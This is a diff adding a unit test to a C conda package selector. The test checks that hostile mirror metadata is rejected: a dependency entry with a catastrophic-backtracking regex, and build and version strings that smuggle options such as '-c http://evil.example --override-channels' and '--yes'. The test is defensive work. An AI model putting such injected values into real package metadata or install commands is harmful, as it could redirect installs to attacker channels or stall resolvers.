@@ -8,6 +8,8 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <time.h>
+#include <unistd.h>
 
 #include "condaselect.h"
 
@@ -513,6 +515,53 @@ static void test_from_compact_index(void **state)
     repodata_index_free(&back);
 }
 
+/* A mirror's hostile data (issue 11 #6, #7): a depends entry whose regex
+ * made glibc's regcomp run for minutes, and a build string carrying
+ * options and a newline. Selection stays fast and never emits the build. */
+#define EVIL_DEP "libevil 1.0 ^p+++++++++++++++++++++++++++++++++++++++++++y*$"
+#define EVIL_BUILD "py3.12_cpu_0 -c http://evil.example --override-channels\\n--yes"
+
+static void test_hostile_repodata(void **state)
+{
+    (void)state;
+    static const char json[] =
+        "{\"info\": {\"subdir\": \"linux-64\"}, \"packages\": {"
+        "\"pytorch-2.5.1-py3.12_cpu_0.tar.bz2\": {\"name\": \"pytorch\", \"version\": \"2.5.1\","
+        " \"build\": \"py3.12_cpu_0\", \"build_number\": 0, \"depends\": [\"python >=3.12,<3.13.0a0\","
+        " \"pytorch-mutex 1.0 cpu\", \"" EVIL_DEP "\", \"" EVIL_DEP "\"]},"
+        "\"pytorch-2.6.0-evil.tar.bz2\": {\"name\": \"pytorch\", \"version\": \"2.6.0\","
+        " \"build\": \"" EVIL_BUILD "\", \"build_number\": 9, \"depends\": [\"pytorch-mutex 1.0 cpu\"]},"
+        "\"pytorch-2.7.0-x.tar.bz2\": {\"name\": \"pytorch\", \"version\": \"2.7.0 --yes\","
+        " \"build\": \"py3.12_cpu_0\", \"build_number\": 0, \"depends\": [\"pytorch-mutex 1.0 cpu\"]},"
+        "\"torchvision-0.20.1-py312_cpu.tar.bz2\": {\"name\": \"torchvision\", \"version\": \"0.20.1\","
+        " \"build\": \"py312_cpu\", \"build_number\": 0, \"depends\": [\"pytorch 2.5.1\","
+        " \"" EVIL_DEP "\", \"python >=3.12,<3.13.0a0\", \"pytorch-mutex 1.0 cpu\"]}"
+        "}}";
+    struct repodata_index idx;
+    char *err = NULL;
+    alarm(20);  /* before the fix this ran for minutes: fail rather than hang */
+    struct timespec t0, t1;
+    clock_gettime(CLOCK_MONOTONIC, &t0);
+    assert_int_equal(repodata_parse(json, strlen(json), NULL, &idx, &err), 0);
+    assert_int_equal(idx.n, 2);        /* the two hostile records are skipped */
+    assert_int_equal(idx.skipped, 2);
+    struct sel_case c = { "hostile", &idx, "linux-64", "3.12", CPU, "pytorch torchvision",
+                          "pytorch=2.5.1=py3.12_cpu_0 torchvision=0.20.1=py312_cpu cpuonly",
+                          NULL };
+    struct condaselect_result res;
+    int ok;
+    char *got = run(&c, &ok, &res);
+    clock_gettime(CLOCK_MONOTONIC, &t1);
+    alarm(0);
+    if (!ok)
+        fail_msg("%s", got);
+    assert_string_equal(got, c.want);
+    assert_true((double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9 < 2.0);
+    free(got);
+    condaselect_result_free(&res);
+    repodata_index_free(&idx);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -521,6 +570,7 @@ int main(void)
         cmocka_unit_test(test_result_fields),
         cmocka_unit_test(test_tie_breaks),
         cmocka_unit_test(test_from_compact_index),
+        cmocka_unit_test(test_hostile_repodata),
     };
     return cmocka_run_group_tests_name("condaselect", tests, setup, teardown);
 }
